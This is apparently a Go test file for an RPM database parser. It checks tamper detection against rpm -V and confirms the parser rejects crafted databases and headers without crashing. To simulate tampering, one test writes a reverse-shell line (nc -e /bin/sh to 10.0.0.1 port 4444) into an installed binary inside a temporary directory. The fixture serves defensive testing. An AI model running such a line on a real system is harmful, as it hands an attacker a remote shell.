package pkgdb

import (
	"bufio"
	"bytes"
	"context"
	"crypto/md5"
	"crypto/sha256"
	"database/sql"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// helloSpec builds a tiny package with one of each kind of file record.
const helloSpec = `Name: %[1]s
Version: 1.2
Release: 3
Epoch: %[2]d
Summary: pkgdb test package
License: MIT
BuildArch: noarch
%%description
pkgdb test package
%%install
mkdir -p %%{buildroot}/usr/bin %%{buildroot}/etc %%{buildroot}/var/log %%{buildroot}/usr/share/%[1]s
printf '#!/bin/sh\necho %[1]s\n' > %%{buildroot}/usr/bin/%[1]s
chmod 755 %%{buildroot}/usr/bin/%[1]s
ln -s %[1]s %%{buildroot}/usr/bin/%[1]s-link
printf 'greeting=%[1]s\n' > %%{buildroot}/etc/%[1]s.conf
touch %%{buildroot}/var/log/%[1]s.log
%%files
/usr/bin/%[1]s
/usr/bin/%[1]s-link
%%config(noreplace) /etc/%[1]s.conf
%%ghost /var/log/%[1]s.log
%%dir /usr/share/%[1]s
`

// helloRPMs builds, once per test binary, two packages with Debian's
// rpmbuild: one with rpm's default SHA-256 file digests and one with MD5
// (FILEDIGESTALGO 1) and an epoch.
var helloRPMs = sync.OnceValues(func() ([]string, error) {
	rpmbuild, err := exec.LookPath("rpmbuild")
	if err != nil {
		return nil, err
	}
	dir, err := os.MkdirTemp("", "pkgdb-rpms-")
	if err != nil {
		return nil, err
	}
	cleanups = append(cleanups, func() { os.RemoveAll(dir) })
	var rpms []string
	for _, pkg := range []struct {
		name  string
		epoch int
		algo  int
	}{{"hello", 0, 8}, {"hello-md5", 2, 1}} {
		spec := filepath.Join(dir, pkg.name+".spec")
		if err := os.WriteFile(spec, fmt.Appendf(nil, helloSpec, pkg.name, pkg.epoch), 0o644); err != nil {
			return nil, err
		}
		top := filepath.Join(dir, "top-"+pkg.name)
		cmd := exec.Command(rpmbuild, "--define", "_topdir "+top, "--define", "_build_id_links none",
			"--define", fmt.Sprintf("_binary_filedigest_algorithm %d", pkg.algo), "-bb", spec)
		if out, err := cmd.CombinedOutput(); err != nil {
			return nil, fmt.Errorf("rpmbuild: %w\n%s", err, out)
		}
		rpms = append(rpms, filepath.Join(top, "RPMS", "noarch", fmt.Sprintf("%s-1.2-3.noarch.rpm", pkg.name)))
	}
	return rpms, nil
})

// rpmRoot installs the hello packages with rpm --root into a fresh root,
// whose rpmdb.sqlite rpm writes. It returns the root and rpm's arguments
// for it.
func rpmRoot(t *testing.T) (string, []string) {
	t.Helper()
	needTool(t, "rpmbuild")
	rpm := needTool(t, "rpm")
	rpms, err := helloRPMs()
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(t.TempDir(), "root")
	args := []string{"--root", root, "--define", "_dbpath /var/lib/rpm", "--define", "_db_backend sqlite"}
	cmd := exec.Command(rpm, append(append(args, "-i", "--nodeps", "--noscripts", "--ignorearch", "--ignoreos"), rpms...)...)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("rpm -i: %v\n%s", err, out)
	}
	return root, args
}

func readRPMDB(t *testing.T, root string) []byte {
	t.Helper()
	if fi, err := os.Stat(filepath.Join(root, "var/lib/rpm/rpmdb.sqlite-wal")); err == nil && fi.Size() > 0 {
		t.Fatalf("rpm left a %d-byte WAL: the test must read a checkpointed database", fi.Size())
	}
	b, err := os.ReadFile(filepath.Join(root, "var/lib/rpm/rpmdb.sqlite"))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestRPMSQLite reads the rpmdb.sqlite Debian's rpm wrote and checks it
// with rpm -V: the files are tampered after installation, and every
// record's verdict must agree with rpm's own.
func TestRPMSQLite(t *testing.T) {
	root, args := rpmRoot(t)
	data := readRPMDB(t, root)
	pkgs, err := ParseRPM("rpmdb.sqlite", data, DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	checkHelloPackages(t, pkgs)

	at := func(p string) string { return filepath.Join(root, filepath.FromSlash(p)) }
	must(t, os.WriteFile(at("/usr/bin/hello"), []byte("#!/bin/sh\nexec nc -e /bin/sh 10.0.0.1 4444\n"), 0o755))
	must(t, os.WriteFile(at("/etc/hello-md5.conf"), []byte("greeting=pwned\n"), 0o644))
	must(t, os.Remove(at("/usr/bin/hello-md5")))
	must(t, os.Remove(at("/usr/bin/hello-link")))
	must(t, os.Symlink("/tmp/.x/hello", at("/usr/bin/hello-link")))

	// The oracle: rpm -V lists each file that differs, with "5" for its
	// digest and "L" for its link target, "c" for a config file.
	cmd := exec.Command(needTool(t, "rpm"), append(args, "-Va", "--nodeps", "--noscripts")...)
	var stdout bytes.Buffer
	cmd.Stdout = &stdout
	if err := cmd.Run(); err != nil {
		if _, ok := err.(*exec.ExitError); !ok {
			t.Fatal(err)
		}
	}
	oracle := map[string]Status{}
	sc := bufio.NewScanner(&stdout)
	for sc.Scan() {
		l := sc.Text()
		fields := strings.Fields(l)
		p := fields[len(fields)-1]
		switch {
		case strings.HasPrefix(l, "missing"):
			oracle[p] = Missing
		case len(l) > 9 && (l[2] == '5' || l[4] == 'L'):
			oracle[p] = Modified
			if len(fields) == 3 && fields[1] == "c" {
				oracle[p] = ConffileModified
			}
		case len(l) > 9:
			// Metadata only (mtime, size): the content is what rpm wrote.
		default:
			t.Fatalf("rpm -V: %q", l)
		}
	}
	ours := map[string]Status{}
	for _, p := range pkgs {
		for _, f := range p.Files {
			ours[f.Path] = Verify(f, observeDir(t, root, f.Path, false))
		}
	}
	want := map[string]Status{
		"/usr/bin/hello":          Modified,
		"/usr/bin/hello-link":     Modified,
		"/etc/hello-md5.conf":     ConffileModified,
		"/usr/bin/hello-md5":      Missing,
		"/etc/hello.conf":         OK,
		"/usr/bin/hello-md5-link": OK,
		"/usr/share/hello":        OK,
		"/var/log/hello.log":      NotVerifiable, // %ghost
	}
	for p, st := range ours {
		o, listed := oracle[p]
		switch {
		case st == OK || st == NotVerifiable:
			if listed {
				t.Errorf("%s: %s, rpm -V says %s", p, st, o)
			}
		case st != o:
			t.Errorf("%s: %s, rpm -V says %s", p, st, o)
		}
	}
	for p, st := range want {
		if ours[p] != st {
			t.Errorf("%s: %s, want %s", p, ours[p], st)
		}
	}
	if len(oracle) != 4 {
		t.Errorf("rpm -V: %v", oracle)
	}
}

// checkHelloPackages asserts what rpmRoot installed.
func checkHelloPackages(t *testing.T, pkgs []Package) {
	t.Helper()
	if len(pkgs) != 2 {
		t.Fatalf("packages %+v", pkgs)
	}
	byName := map[string]Package{}
	for _, p := range pkgs {
		byName[p.Name] = p
	}
	sum := func(name string) (string, string) {
		content := []byte("#!/bin/sh\necho " + name + "\n")
		s := sha256.Sum256(content)
		m := md5.Sum(content)
		return hex.EncodeToString(s[:]), hex.EncodeToString(m[:])
	}
	for _, tt := range []struct {
		name, version string
		alg           Algorithm
	}{{"hello", "1.2-3", SHA256}, {"hello-md5", "2:1.2-3", MD5}} {
		p := byName[tt.name]
		if p.Manager != RPM || p.Version != tt.version || p.Architecture != "noarch" || p.SourceName != tt.name || p.SourceVersion != "1.2-3" || !p.Installed {
			t.Errorf("%s: %+v", tt.name, p)
		}
		s256, m5 := sum(tt.name)
		want := map[string]File{
			"/usr/bin/" + tt.name:           {Algorithm: tt.alg, Digest: map[Algorithm]string{SHA256: s256, MD5: m5}[tt.alg]},
			"/usr/bin/" + tt.name + "-link": {Flags: Symlink, LinkTarget: tt.name},
			"/etc/" + tt.name + ".conf":     {Algorithm: tt.alg, Flags: Conffile},
			"/var/log/" + tt.name + ".log":  {Flags: Ghost},
			"/usr/share/" + tt.name:         {Flags: Dir},
		}
		if len(p.Files) != len(want) {
			t.Errorf("%s files %+v", tt.name, p.Files)
		}
		for _, f := range p.Files {
			w, ok := want[f.Path]
			if !ok || f.Flags != w.Flags || f.Algorithm != w.Algorithm || (w.Digest != "" && f.Digest != w.Digest) || f.LinkTarget != w.LinkTarget {
				t.Errorf("%s: %+v, want %+v", tt.name, f, w)
			}
		}
	}
}

// headerBlobs reads the rpm headers out of an rpmdb.sqlite, to store them
// in the other formats.
func headerBlobs(t *testing.T, data []byte) [][]byte {
	t.Helper()
	p := filepath.Join(t.TempDir(), "rpmdb.sqlite")
	if err := os.WriteFile(p, data, 0o600); err != nil {
		t.Fatal(err)
	}
	db, err := sql.Open("sqlite", "file:"+p+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	rows, err := db.Query("SELECT blob FROM Packages ORDER BY hnum")
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var out [][]byte
	for rows.Next() {
		var b []byte
		if err := rows.Scan(&b); err != nil {
			t.Fatal(err)
		}
		out = append(out, b)
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestRPMFormats: the same headers in NDB and BerkeleyDB files give the
// packages the SQLite database gives.
func TestRPMFormats(t *testing.T) {
	root, _ := rpmRoot(t)
	data := readRPMDB(t, root)
	want, err := ParseRPM("rpmdb.sqlite", data, DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	blobs := headerBlobs(t, data)
	for name, db := range map[string][]byte{
		"Packages.db":      ndbFile(blobs),
		"Packages":         bdbFile(blobs, 4096),
		"Packages (512 B)": bdbFile(blobs, 512),
	} {
		got, err := ParseRPM(name, db, DefaultLimits)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s: %+v\nwant %+v", name, got, want)
		}
	}
	for _, p := range []string{"/var/lib/rpm/rpmdb.sqlite", "/usr/lib/sysimage/rpm/Packages.db", "/var/lib/rpm/Packages"} {
		if !IsRPMPath(p) {
			t.Errorf("IsRPMPath(%s)", p)
		}
	}
	if IsRPMPath("/var/lib/rpm/Name") || IsRPMPath("/tmp/rpmdb.sqlite") {
		t.Error("IsRPMPath takes other files")
	}
}

// TestRPMHostile: crafted databases give one clear error, in bounded time,
// without a panic (the library's goroutines would take the process down).
func TestRPMHostile(t *testing.T) {
	root, _ := rpmRoot(t)
	data := readRPMDB(t, root)
	blobs := headerBlobs(t, data)
	le := binary.LittleEndian
	const ps = 512
	mutate := func(b []byte, f func([]byte)) []byte {
		c := bytes.Clone(b)
		f(c)
		return c
	}
	bdb := bdbFile(blobs, ps)
	ndb := ndbFile(blobs)
	for _, tt := range []struct {
		name string
		data []byte
		in   string
	}{
		{"BerkeleyDB pages loop", mutate(bdb, func(b []byte) { le.PutUint32(b[3*ps+16:], 2) }), "pages loop"},
		{"BerkeleyDB chain into a hash page", mutate(bdb, func(b []byte) { le.PutUint32(b[3*ps+16:], 1) }), "not overflow"},
		{"BerkeleyDB chains share pages", mutate(bdb, func(b []byte) {
			// the second header's HOFFPAGE names the first one's chain
			off := le.Uint16(b[ps+bdbPageHeaderSize+6:])
			le.PutUint32(b[ps+int(off)+4:], 2)
		}), "already in the chain"},
		{"BerkeleyDB page past the end", mutate(bdb, func(b []byte) { le.PutUint32(b[3*ps+16:], 1<<30) }), "past the last page"},
		{"BerkeleyDB entries past the page", mutate(bdb, func(b []byte) { le.PutUint16(b[ps+20:], 60000) }), "entries"},
		{"BerkeleyDB entry offset past the page", mutate(bdb, func(b []byte) { le.PutUint16(b[ps+bdbPageHeaderSize+2:], ps+7) }), "entry 1 at offset"},
		{"BerkeleyDB free area past the page", mutate(bdb, func(b []byte) {
			for n := 2; n*ps < len(b); n++ {
				if le.Uint32(b[n*ps+16:]) == 0 {
					le.PutUint16(b[n*ps+22:], 60000)
				}
			}
		}), "overflow page"},
		{"BerkeleyDB truncated", bdb[:len(bdb)-ps/2], "truncated"},
		{"BerkeleyDB bad page size", mutate(bdb, func(b []byte) { le.PutUint32(b[20:], 1000) }), "page size"},
		{"NDB huge blob", mutate(ndb, func(b []byte) { le.PutUint32(b[ndbSlotPageSize+12:], 0xfffffff0) }), "truncated"},
		{"NDB bad slot magic", mutate(ndb, func(b []byte) { copy(b[ndbSlotPageSize-16:], "XXXX") }), "bad slot magic"},
		{"NDB blob elsewhere", mutate(ndb, func(b []byte) { le.PutUint32(b[32+8:], 1) }), "outside the file"},
		{"NDB wrong blob", mutate(ndb, func(b []byte) { copy(b[ndbSlotPageSize:], "BlbX") }), "no blob"},
		{"NDB too many slot pages", mutate(ndb, func(b []byte) { le.PutUint32(b[12:], 1<<20) }), "slot pages"},
		{"NDB truncated", ndb[:ndbSlotPageSize-100], "truncated"},
		{"NDB garbage header", ndbFile([][]byte{bytes.Repeat([]byte{0xff}, 64)}), "header"},
		{"SQLite garbage", append(bytes.Clone(sqliteMagic), bytes.Repeat([]byte{0x5a}, 4096)...), "rpmdb.sqlite"},
		{"SQLite truncated", data[:len(data)/3], "rpmdb.sqlite"},
		{"not a database", []byte("hello"), "not an rpm database"},
		{"NUL bytes", make([]byte, 8192), "not an rpm database"},
	} {
		done := make(chan error, 1)
		go func() {
			_, err := ParseRPM("rpmdb.sqlite", tt.data, DefaultLimits)
			done <- err
		}()
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		select {
		case err := <-done:
			if !errors.Is(err, ErrMalformed) || !strings.Contains(err.Error(), tt.in) || !strings.HasPrefix(err.Error(), "rpmdb.sqlite") {
				t.Errorf("%s: %v, want ErrMalformed containing %q", tt.name, err, tt.in)
			}
		case <-ctx.Done():
			t.Errorf("%s: no answer in 20s", tt.name)
		}
		cancel()
	}
	if _, err := ParseRPM("rpmdb.sqlite", data, Limits{MaxSize: 1000, MaxRecords: 10, MaxLine: 10}); !errors.Is(err, ErrTooLarge) {
		t.Errorf("over MaxSize: %v", err)
	}
	if _, err := ParseRPM("rpmdb.sqlite", data, Limits{MaxSize: 1 << 30, MaxRecords: 3, MaxLine: 10}); !errors.Is(err, ErrTooLarge) {
		t.Errorf("over MaxRecords: %v", err)
	}
}

// TestHeaderLinks: pkgdb's own reading of FILELINKTOS takes a real header
// and refuses crafted ones without a panic or a large allocation.
func TestHeaderLinks(t *testing.T) {
	root, _ := rpmRoot(t)
	blobs := headerBlobs(t, readRPMDB(t, root))
	names := map[string][]string{}
	for _, b := range blobs {
		name, links, err := headerLinks(b)
		if err != nil {
			t.Fatal(err)
		}
		names[name] = links
	}
	if l := names["hello"]; len(l) != 5 || !slices.Contains(l, "hello") {
		t.Errorf("hello FILELINKTOS %q", l)
	}
	be := binary.BigEndian
	entry := func(tag, typ uint32, off int32, count uint32) []byte {
		e := make([]byte, 16)
		be.PutUint32(e, tag)
		be.PutUint32(e[4:], typ)
		be.PutUint32(e[8:], uint32(off))
		be.PutUint32(e[12:], count)
		return e
	}
	header := func(data string, entries ...[]byte) []byte {
		b := make([]byte, 8)
		be.PutUint32(b, uint32(len(entries)))
		be.PutUint32(b[4:], uint32(len(data)))
		for _, e := range entries {
			b = append(b, e...)
		}
		return append(b, data...)
	}
	for name, b := range map[string][]byte{
		"empty":             nil,
		"no tags":           header(""),
		"tags past the end": append(header("x\x00", entry(rpmTagName, rpmTypeString, 0, 1))[:20], 0),
		"negative offset":   header("x\x00", entry(rpmTagFileLinkTos, rpmTypeStringArr, -4, 1)),
		"offset past data":  header("x\x00", entry(rpmTagFileLinkTos, rpmTypeStringArr, 3, 1)),
		"count past data":   header("x\x00", entry(rpmTagFileLinkTos, rpmTypeStringArr, 0, 1<<31)),
		"unterminated":      header("abc", entry(rpmTagName, rpmTypeString, 0, 1)),
		"too many strings":  header("a\x00b\x00", entry(rpmTagFileLinkTos, rpmTypeStringArr, 0, 3)),
	} {
		if _, _, err := headerLinks(b); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
	if n, l, err := headerLinks(header("pkg\x00\x00t\x00", entry(rpmTagName, rpmTypeString, 0, 1), entry(rpmTagFileLinkTos, rpmTypeStringArr, 4, 2))); err != nil || n != "pkg" || len(l) != 2 || l[0] != "" || l[1] != "t" {
		t.Errorf("well-formed: %q %q %v", n, l, err)
	}
}

// TestRPMBadHeader: a header that does not parse costs its own package
// only, is named in the error, and leaves no goroutine of the parser
// behind (go-rpmdb's reader blocks for good when its caller stops at a bad
// header with more to come).
func TestRPMBadHeader(t *testing.T) {
	root, _ := rpmRoot(t)
	blobs := headerBlobs(t, readRPMDB(t, root))
	bad := bytes.Clone(blobs[0])
	binary.BigEndian.PutUint32(bad[8:], 1117) // the region tag becomes BASENAMES
	db := ndbFile(append([][]byte{bad}, blobs...))
	before := runtime.NumGoroutine()
	for range 20 {
		pkgs, err := ParseRPM("Packages.db", db, DefaultLimits)
		if !errors.Is(err, ErrMalformed) || !strings.Contains(err.Error(), "Packages.db: header 1:") {
			t.Fatalf("bad header: %v", err)
		}
		if len(pkgs) != len(blobs) {
			t.Fatalf("%d packages, want the %d good ones", len(pkgs), len(blobs))
		}
	}
	deadline := time.Now().Add(10 * time.Second)
	for runtime.NumGoroutine() > before+2 {
		if time.Now().After(deadline) {
			t.Fatalf("%d goroutines before, %d after 20 bad headers", before, runtime.NumGoroutine())
		}
		runtime.Gosched()
	}
}
